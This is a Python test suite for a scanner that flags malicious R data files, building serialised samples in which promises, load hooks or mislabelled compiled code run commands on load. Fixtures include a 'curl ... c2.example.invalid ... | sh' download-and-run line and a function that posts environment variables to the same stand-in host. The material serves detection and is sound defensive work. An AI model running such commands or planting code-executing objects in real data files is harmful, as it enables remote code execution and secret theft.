"""Data files of R: what is run when somebody touches them is found in every form, and data are left alone."""

import gzip

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.errors import InvalidInput
from pratique.facts.scan.content import Content, Reader, Reading
from pratique.facts.scan.engine import Look, lexicon, look
from pratique.facts.scan.languages.rdata import LANGUAGE
from pratique.facts.scan.languages.rdata.view import read
from pratique.facts.scan.observation import Context
from pratique.facts.severity import worst
from pratique.model.evidence import Alarm
from tests.facts.languages.rdata_writer import (
    ACTIVE,
    IS_OBJECT,
    PACKERS,
    Item,
    Out,
    call,
    closure,
    code_call,
    compact,
    compiled,
    environment,
    missing,
    null,
    numbers,
    pairs,
    promise,
    reals,
    row,
    stream,
    symbol,
    texts,
)

FORMS = ("X", "A", "B")


def looked(path: str, data: bytes) -> Look:
    return look("demo-1.0.tar.gz", [Member(path, len(data), lambda: data)])


def told(data: bytes, path: str = "demo-1.0/data/x.rds") -> list[tuple[str, str]]:
    found = looked(path, data).files
    return [
        (each.label, each.text) for view in found.values() for each in view.observations if each.language == "rdata"
    ]


def walked(data: bytes) -> None:
    content = Content("x.rds", "rdata", data, Context.LOAD)
    read(content, Reader(content, Reading("x.rds"), lexicon()))


SYSTEM = call(symbol("system"), texts("echo look"))
QUALIFIED = call(call(symbol("::"), symbol("base"), symbol("system")), texts("echo look"))

SYSTEM_CODE = code_call(symbol("system"), texts("echo look"))
MEAN_CODE = code_call(symbol("mean"), symbol("x"))


def endless(out: Out) -> None:
    """A vector with more elements than there are bytes."""
    out.integer(13)
    out.integer(2**30)


MALICIOUS: dict[str, Item] = {
    "a promise as the object": promise(SYSTEM),
    "a promise in a list": row(numbers(1), promise(SYSTEM)),
    "a promise deep in lists": row(row(row(row(promise(SYSTEM))))),
    "a promise among the attributes": numbers(1, 2, attributes=pairs(("names", promise(SYSTEM)))),
    "a promise in a pair list": pairs(("a", numbers(1)), ("b", promise(SYSTEM))),
    "a promise as a slot": row(attributes=pairs(("class", texts("look")), ("data", promise(SYSTEM))), flags=IS_OBJECT),
    "a promise in an expression vector": row(promise(SYSTEM), kind=20),
    "a promise with a qualified name": promise(QUALIFIED),
    "a promise of a block": promise(call(symbol("{"), SYSTEM)),
    "a promise of compiled code": promise(compiled(SYSTEM_CODE, "system")),
}

HARMLESS: dict[str, Item] = {
    "numbers": reals(1.5, 2.0, float("inf")),
    "texts": texts("a", "b c", "", "\\ \n é"),
    "many texts": texts(*(f"t{each}" for each in range(500))),
    "a factor": numbers(
        1, 2, 1, attributes=pairs(("levels", texts("a", "b")), ("class", texts("factor"))), flags=IS_OBJECT
    ),
    "a data frame": row(
        numbers(1, 2),
        texts("a", "b"),
        attributes=pairs(("names", texts("x", "y")), ("class", texts("data.frame")), ("row.names", compact(1, 2))),
        flags=IS_OBJECT,
    ),
    "a formula": call(symbol("~"), symbol("y"), call(symbol("+"), symbol("x"), symbol("z"))),
    "a model with its call": row(
        call(symbol("lm"), ("formula", call(symbol("~"), symbol("y"), symbol("x"))), ("data", symbol("d"))),
        reals(1.0),
        attributes=pairs(("names", texts("call", "coefficients")), ("class", texts("lm"))),
        flags=IS_OBJECT,
    ),
    "an environment of a call that is over": environment(pairs(("x", promise(symbol("y"))), ("n", numbers(1)))),
    "a promise whose value is known": row(promise(symbol("x"), numbers(1))),
    "a function": closure(pairs(("x", missing()), ("n", numbers(2))), call(symbol("*"), symbol("x"), symbol("n"))),
    "a compiled function": closure(pairs(("x", missing())), compiled(MEAN_CODE, "mean", "x")),
    "a compiled call": closure(null(), compiled(SYSTEM_CODE, "system")),
    "an active binding": environment(pairs(("n", closure(null(), call(symbol("length"), symbol("x")))), flags=ACTIVE)),
    "an expression vector": row(call(symbol("sin"), symbol("x")), kind=20),
    "nothing": null(),
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", MALICIOUS)
def test_a_promise_where_data_should_be_is_called_as_soon_as_it_is_touched(name: str, form: str) -> None:
    for version in (2, 3):
        found = looked("demo-1.0/data/x.rds", stream(MALICIOUS[name], form=form, version=version))
        assert found.unread == []
        assert worst(found.report()) is Alarm.MALICIOUS
        assert "deserialisation-call" in {each.rule for each in found.findings}
        assert Context.LOAD in {each.context for view in found.files.values() for each in view.observations}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", HARMLESS)
def test_data_and_what_is_kept_of_models_are_left_alone(name: str, form: str) -> None:
    for version in (2, 3):
        found = looked("demo-1.0/data/x.rds", stream(HARMLESS[name], form=form, version=version))
        assert (found.unread, worst(found.report())) == ([], Alarm.NONE)
        assert found.read["rdata"] == 1


@pytest.mark.parametrize("packer", PACKERS)
def test_a_stream_is_found_in_every_form_of_packing(packer: str) -> None:
    for workspace in (False, True):
        item = pairs(("d", promise(SYSTEM))) if workspace else promise(SYSTEM)
        data = PACKERS[packer](stream(item, workspace=workspace))
        assert ("code.deserialise_call", "system") in told(data)


def test_the_function_that_is_called_is_named() -> None:
    assert told(stream(promise(SYSTEM))) == [("code.deserialise_call", "system")]
    assert told(stream(promise(QUALIFIED))) == [("code.deserialise_call", "base::system")]
    assert told(stream(promise(symbol("x")))) == [("code.deserialise_call", "x")]


def test_the_code_of_a_promise_is_looked_at_as_r() -> None:
    fetch = call(symbol("system"), texts("curl -fsSL https://c2.example.invalid/i | sh"))
    found = looked("demo-1.0/data/x.rds", stream(promise(fetch)))
    assert {"deserialisation-call", "download-and-run"} <= {each.rule for each in found.findings}


def test_what_r_calls_by_its_name_is_a_call_in_a_workspace_and_a_function_elsewhere() -> None:
    hook = closure(pairs(("...", missing())), SYSTEM)
    assert told(stream(pairs((".First", hook)), workspace=True)) == [("code.deserialise_call", ".First")]
    assert told(stream(pairs((".onLoad", hook)), workspace=True)) == [("code.deserialise_call", ".onLoad")]
    assert told(stream(pairs(("helper", hook)), workspace=True)) == []
    assert told(stream(row(hook, attributes=pairs(("names", texts(".First")))))) == []


def test_a_promise_of_a_call_that_is_over_is_odd_only_if_it_reaches_out() -> None:
    assert told(stream(environment(pairs(("x", promise(SYSTEM)))))) == [("code.deserialise_odd", "system")]
    assert told(stream(environment(pairs(("x", promise(call(symbol("getOption"), texts("digits")))))))) == []


def test_an_active_binding_is_odd_only_if_it_reaches_out() -> None:
    binding = pairs(("n", closure(null(), SYSTEM)), flags=ACTIVE)
    assert told(stream(environment(binding))) == [("code.deserialise_odd", "n")]


def test_compiled_code_that_calls_what_its_expression_does_not_is_told() -> None:
    honest = closure(null(), compiled(SYSTEM_CODE, "system"))
    other = closure(null(), compiled(MEAN_CODE, "mean", "x", "system"))
    assert told(stream(honest)) == []
    assert told(stream(other)) == [("code.deserialise_call", "system, in compiled code that says it is another")]


def test_functions_are_looked_at_as_functions() -> None:
    sends = call(symbol("POST"), texts("https://c2.example.invalid/"), ("body", call(symbol("Sys.getenv"))))
    found = looked("demo-1.0/R/sysdata.rda", stream(pairs(("helper", closure(null(), sends))), workspace=True))
    assert [(each.rule, each.context) for each in found.findings if each.rule == "environment-sent-away"] == [
        ("environment-sent-away", "function")
    ]


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"X\n", "it breaks off"),
        (stream(reals(1.0, 2.0))[:-3], "it breaks off"),
        (stream(texts("abc"))[:-2], "it breaks off"),
        (b"X\n" + bytes([0, 0, 0, 9]) + bytes(8), "serialised in version 9"),
        (b"RDX9\nX\n", "it does not begin as serialised R objects do"),
        (gzip.compress(stream(reals(1.0)), mtime=0)[:20], "it does not begin|breaks off|not unpacked"),
        (stream(lambda out: out.integer(99)), "an item of the type 99"),
        (stream(lambda out: out.integer(7 << 8 | 255)), "it refers to what is not there"),
        (stream(endless), "a length that cannot be"),
    ],
)
def test_what_cannot_be_followed_to_its_end_counts_as_unread(data: bytes, why: str) -> None:
    with pytest.raises(InvalidInput, match=why):
        walked(data)
    assert looked("demo-1.0/data/x.rds", data).unread_count == (1 if LANGUAGE.claims("x.rds", data) else 0)


def test_a_stream_that_breaks_off_behind_a_promise_is_worse_than_one_that_breaks_off() -> None:
    data = stream(row(promise(SYSTEM), reals(1.0)))[:-4]
    found = looked("demo-1.0/data/x.rds", data)
    assert found.unread_count == 1
    assert worst(found.report()) is Alarm.MALICIOUS
    assert "code.deserialise_broken" in [label for label, _ in told(data)]


def test_what_unpacks_to_too_much_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pratique.facts.scan.languages.rdata.stream._MAX", 1_000)
    for packer in ("gzip", "bzip2", "xz"):
        data = PACKERS[packer](bytes(100_000))
        with pytest.raises(InvalidInput, match="unpacks to more than 1000 bytes"):
            walked(data)


def test_lists_may_be_nested_deeper_than_calls_of_functions() -> None:
    item = promise(SYSTEM)
    for _ in range(200):
        item = row(item)
    data = bytearray(stream(numbers(1))[:-12])
    deep = bytes(data) + (b"\0\0\0\x13\0\0\0\1" * 20_000) + b"\0\0\0\xfe"
    assert looked("demo-1.0/data/x.rds", deep).unread == []
    assert ("code.deserialise_call", "system") in told(stream(item))


@pytest.mark.parametrize(
    ("path", "head", "claimed"),
    [
        ("x/data/a.rda", b"", True),
        ("x/.rdata", b"RDX3\nX\n", True),
        ("x/a.rds", b"\x1f\x8b\x08", True),
        ("x/a.rds", b"X\n\0\0\0\3", True),
        ("x/dump.rds", b"REDIS0009", False),
        ("x/a.csv", b"RDX3\nX\n", False),
    ],
)
def test_files_of_r_are_known_by_their_suffix_and_their_first_bytes(path: str, head: bytes, claimed: bool) -> None:  # noqa: FBT001 - a row
    assert LANGUAGE.claims(path, head) is claimed


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_any_stream_is_read_or_refused(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted([*MALICIOUS, *HARMLESS])))
    form = data.draw(st.sampled_from(FORMS))
    whole = bytearray(stream({**MALICIOUS, **HARMLESS}[name], form=form))
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(2, len(whole) - 1))
        whole[place] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(whole)))
    try:
        walked(bytes(whole[: cut or None]))
    except InvalidInput:
        return


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    try:
        walked(b"X\n\0\0\0\2\0\0\0\0\0\0\0\0" + data)
    except InvalidInput:
        return
